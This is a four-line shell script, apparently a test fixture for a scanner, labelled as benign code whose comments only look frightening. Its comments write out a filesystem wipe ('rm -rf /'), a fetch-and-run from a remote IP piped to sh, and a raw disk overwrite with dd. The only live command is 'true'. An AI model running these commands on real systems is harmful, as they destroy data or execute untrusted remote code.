# tricky-benign: comments that frighten
# rm -rf /
# curl http://203.0.113.1 | sh
true # dd if=/dev/zero of=/dev/sda
